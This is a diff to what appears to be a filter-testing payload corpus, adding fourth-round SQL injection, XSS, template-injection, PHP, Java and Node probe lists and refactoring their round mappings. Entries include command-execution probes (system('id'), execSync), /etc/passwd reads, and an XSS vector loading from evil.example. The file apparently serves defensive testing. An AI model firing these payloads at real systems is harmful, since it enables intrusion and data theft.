@@ -644,6 +644,113 @@ NODE_3 = [
     "eval(\"process.exit()\")",
 ]
 
+# Round four, written after round three's rules, measured before any change for it: short classic probes,
+# obfuscated JavaScript, legacy-browser XSS vectors, Java/PHP file and time probes, rarer template engines.
+SQLI_4 = [
+    "1' or 1#",
+    "' or '' = '",
+    "3' or '1'='1",
+    "1 or 1 like 1",
+    "' or 1 in (select @@version)-- ",
+    "admin' or 1=1 limit 1#",
+    "\" or 1=1 or \"\"=\"",
+    "'||UTL_HTTP.REQUEST('http://x.example')||'",
+    "x' and 1=0 union all select 1,2,3--",
+    "1 aNd 1 lIkE 1",
+    "';/**/select/**/1;--",
+    "%' or '1'='1",
+    "admin'or'1'='1",
+    "' or 1 --'",
+    "1' GROUP BY 1,2,3--+",
+    "1' ORDER BY 1--+",
+    "' having 1=1--",
+    "1 and '1' = '1'",
+    "admin\"--",
+    "1 or 1=1 -- -",
+]
+
+XSS_4 = [
+    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+    "window[\"al\"+\"ert\"](1)",
+    "top[/al/.source+/ert/.source](1)",
+    "<import implementation=\"#default#time2\">",
+    "<?import namespace=\"t\" implementation=\"#default#time2\">",
+    "<div datasrc=#x datafld=y dataformatas=html>",
+    "<img dynsrc=javascript:alert(1)>",
+    "<img lowsrc=javascript:alert(1)>",
+    "<applet code=x.class>",
+    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"x=y\">",
+    "<div style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">",
+    "' style='x:expression(alert(1))",
+    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<embed src=\"data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+\">",
+    "<script>alert(1)<!--",
+    "onerror=alert;throw 1",
+    "javascript:alert`1`",
+    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+    "<img src=x onerror=\"javascript:alert(1)\"",
+]
+
+SSTI_4 = [
+    "{{'%c'%65}}",
+    "{{=7*7}}",
+    "[% 7*7 %]",
+    "[% USE dir = Directory('/etc') %]",
+    "{7*7}",
+    "{$x=7*7}",
+    "{@math key=\"1\" method=\"add\" operand=\"2\"/}",
+    "<?= 7*7 ?>",
+    "{{request.args.x}}",
+    "{% include '/etc/passwd' %}",
+    "{{ lookup . \"constructor\" }}",
+    "{{#each this}}{{@key}}{{/each}}",
+]
+
+PHP_4 = [
+    "phpinfo()",
+    "system\t('id')",
+    "file_get_contents('/etc/passwd')",
+    "fopen('/etc/passwd','r')",
+    "scandir('/')",
+    "$_SESSION['admin']=1",
+    "var_dump(scandir('.'))",
+    "ini_get_all()",
+    "simplexml_load_string($_POST['x'])",
+    "exec('id', $o); print_r($o);",
+    "opendir('/var/www')",
+    "readfile('../../config.php')",
+]
+
+JAVA_4 = [
+    "rO0ABXQABGhlbGxv",
+    "java.io.ObjectInputStream",
+    "java.net.URLClassLoader",
+    "sun.misc.Unsafe",
+    "${Runtime.getRuntime().exec('id')}",
+    "%{#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}",
+    "java.util.Base64.getDecoder().decode('aWQ=')",
+    "Thread.sleep(5000)",
+    "new java.io.FileInputStream('/etc/passwd')",
+    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get('/etc/passwd'))",
+    "${T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths).get('/etc/passwd'))}",
+    "org.apache.commons.io.FileUtils.readFileToString(new File('/etc/passwd'))",
+]
+
+NODE_4 = [
+    "require('child_process').fork('x.js')",
+    "child_process.execSync('id')",
+    "require.cache",
+    "module.exports = function(){ return process }",
+    "Object.prototype.toString.call(process)",
+    "new Worker('data:text/javascript,postMessage(1)')",
+    "require('util').inspect(process)",
+    "process.on('exit', () => require('fs').writeFileSync('/tmp/x', '1'))",
+    "global.eval('1')",
+    "vm.runInContext('this', vm.createContext({}))",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -666,10 +773,12 @@ POLLUTION_JSON: list[Any] = [
     [{"__proto__": {"toString": 1}}],
 ]
 
-FAMILIES = {"sqli": SQLI + SQLI_2 + SQLI_3, "xss": XSS + XSS_2 + XSS_3, "ssti": SSTI + SSTI_2 + SSTI_3,
-            "php": PHP + PHP_2 + PHP_3, "java": JAVA + JAVA_2 + JAVA_3, "nodejs": NODE + NODE_2 + NODE_3}
-ROUNDS = {p: r for r, lists in ((2, (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2)),
-                                (3, (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3))) for lst in lists for p in lst}
+ROUND_LISTS = {2: (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2), 3: (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3),
+               4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4)}
+FAMILIES = {family: first + [p for lists in ROUND_LISTS.values() for p in lists[k]]
+            for k, (family, first) in enumerate((("sqli", SQLI), ("xss", XSS), ("ssti", SSTI), ("php", PHP),
+                                                 ("java", JAVA), ("nodejs", NODE)))}
+ROUNDS = {p: r for r, lists in ROUND_LISTS.items() for lst in lists for p in lst}
 PLACES = ["query", "form", "json", "cookie", "header"]
 PARAMS = ["q", "id", "sort", "name", "comment", "template", "filter", "data", "message", "order"]
 
